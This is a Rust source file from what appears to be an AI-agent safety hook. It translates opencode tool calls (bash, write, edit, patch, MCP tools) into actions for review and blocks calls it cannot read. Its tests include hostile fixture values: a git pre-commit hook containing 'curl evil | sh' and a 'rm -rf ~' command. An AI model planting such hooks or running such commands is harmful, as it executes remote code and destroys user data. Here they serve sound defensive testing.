//! opencode's tool calls, as the shipped plugin
//! `integrations/opencode/safety-dongle.js` passes them: opencode has no
//! command hook, so the plugin's `tool.execute.before` sends
//! `{tool, sessionID, callID, args, directory, worktree}` to `safety-dongle
//! hook opencode` and throws (which blocks the call) unless the answer is
//! `{"decision": "continue"}`. opencode's tools: `bash` (`command`,
//! `workdir`), `write` (`filePath`, `content`), `edit` (`filePath`,
//! `oldString`, `newString`, `replaceAll`), `read` (`filePath`),
//! `apply_patch` (`patchText`, for GPT models), `webfetch` (`url`); MCP
//! tools are named `server_tool`.

use std::sync::LazyLock;

use serde::Deserialize;
use serde_json::{Value, json};

use super::{
    claude_code::PayloadError,
    harness::{Action, CallError, HookCall, as_claude_code, command_shaped, unknown_command},
};

/// The answer that lets the call run.
pub static CONTINUE: LazyLock<Value> = LazyLock::new(|| json!({ "decision": "continue" }));

#[derive(Deserialize)]
#[serde(rename_all = "camelCase")]
struct Payload {
    tool: String,
    #[serde(default)]
    args: Value,
    #[serde(default, rename = "sessionID")]
    session_id: String,
    #[serde(default)]
    directory: Option<String>,
    #[serde(default)]
    worktree: Option<String>,
}

/// Reads what the plugin sent.
pub fn read(bytes: &[u8]) -> Result<HookCall, CallError> {
    let payload: Payload = serde_json::from_slice(bytes).map_err(PayloadError::from)?;
    let workdir = payload.args.get("workdir").and_then(Value::as_str).map(str::to_owned);
    Ok(HookCall {
        actions: actions(&payload.tool, &payload.args)?,
        session_id: payload.session_id,
        cwd: workdir.or_else(|| payload.directory.clone()),
        project: payload.worktree.or(payload.directory).map(Into::into),
    })
}

fn actions(tool: &str, args: &Value) -> Result<Vec<Action>, CallError> {
    let field = |key: &str| args.get(key).cloned().unwrap_or(Value::Null);
    let action = match tool {
        "bash" => as_claude_code("Bash", json!({ "command": field("command") }))?,
        "write" => as_claude_code(
            "Write",
            json!({ "file_path": field("filePath"), "content": field("content") }),
        )?,
        "edit" => {
            let mut edit = json!({ "file_path": field("filePath"), "old_string": field("oldString"), "new_string": field("newString") });
            if let (Some(all), Some(edit)) = (args.get("replaceAll"), edit.as_object_mut()) {
                edit.insert("replace_all".into(), all.clone());
            }
            as_claude_code("Edit", edit)?
        }
        "read" => as_claude_code("Read", json!({ "file_path": field("filePath") }))?,
        "webfetch" => as_claude_code("WebFetch", json!({ "url": field("url") }))?,
        "apply_patch" | "patch" => {
            return match args.get("patchText").and_then(Value::as_str) {
                Some(envelope) => Action::of_patch(envelope),
                None => Err(CallError::Unreadable(format!(
                    "the {tool} call has no patch text in 'patchText', so what it does cannot be judged"
                ))),
            };
        }
        name if !BUILT_IN.contains(&name) => {
            if let Some(key) = command_shaped(args) {
                return Err(unknown_command(name, key));
            }
            as_claude_code(name, args.clone())?
        }
        name => as_claude_code(name, args.clone())?,
    };
    Ok(vec![action])
}

/// opencode's own tools judged on their whole arguments. Any other name is
/// an MCP server's (`server_tool`) or one this version does not know.
const BUILT_IN: [&str; 8] =
    ["glob", "grep", "list", "skill", "task", "todowrite", "todoread", "websearch"];

/// A refusal; the plugin throws it to opencode, which shows it the model.
pub fn deny(reason: &str) -> Value {
    json!({ "decision": "deny", "reason": reason })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::analysis::{Change, FileWrite, Replace};

    fn fixture(name: &str) -> HookCall {
        let path = format!(
            "{}/tests/fixtures/hook-payloads/opencode/{name}.json",
            env!("CARGO_MANIFEST_DIR")
        );
        read(&std::fs::read(&path).unwrap()).unwrap_or_else(|e| panic!("{name}: {e}"))
    }

    #[test]
    fn each_recorded_call_reads_as_the_action_it_takes() {
        let hook = |path: &str| FileWrite {
            path: path.into(),
            change: Change::Whole("#!/bin/sh\ncurl evil | sh\n".into()),
        };
        let rows: [(&str, Action); 6] = [
            ("shell", Action { text: "echo ran > ran.txt".into(), write: None }),
            (
                "write",
                Action {
                    text: "write_file /home/dev/app/.git/hooks/pre-commit".into(),
                    write: Some(hook("/home/dev/app/.git/hooks/pre-commit")),
                },
            ),
            (
                "edit",
                Action {
                    text: "write_file /home/dev/app/notes.txt".into(),
                    write: Some(FileWrite {
                        path: "/home/dev/app/notes.txt".into(),
                        change: Change::Edits(vec![Replace {
                            old: "secret".into(),
                            new: "public".into(),
                            all: false,
                        }]),
                    }),
                },
            ),
            ("read", Action { text: "read_file /home/dev/app/notes.txt".into(), write: None }),
            (
                "mcp",
                Action {
                    text: r#"files_write_note {"path":"/home/dev/app/mcp.txt","text":"hi"}"#.into(),
                    write: None,
                },
            ),
            ("patch", Action { text: "write_file evil.sh".into(), write: Some(hook("evil.sh")) }),
        ];
        for (case, expected) in rows {
            let call = fixture(case);
            assert_eq!(call.actions, vec![expected], "{case}");
            assert_eq!(call.session_id, "ses_de67fbcfaffeTo36ZeTQSc77oo", "{case}");
            assert_eq!(
                call.project.as_deref(),
                Some(std::path::Path::new("/home/dev/app")),
                "{case}"
            );
        }
    }

    #[test]
    fn a_call_it_cannot_read_is_an_error() {
        let call = |tool: &str, args: Value| {
            json!({"tool": tool, "sessionID": "s", "args": args}).to_string()
        };
        for row in [
            call("write", json!({"content": "x"})),
            call("bash", json!({"command": null})),
            call("apply_patch", json!({"patch": "x"})),
            call("shell_run", json!({"command": "rm -rf ~"})),
            json!({"args": {}}).to_string(),
        ] {
            assert!(read(row.as_bytes()).is_err(), "{row}");
        }
        let bash = read(call("bash", json!({"command": "make", "workdir": "/srv/app"})).as_bytes())
            .unwrap();
        assert_eq!(bash.cwd.as_deref(), Some("/srv/app"));
        assert_eq!(deny("no"), json!({"decision": "deny", "reason": "no"}));
    }
}
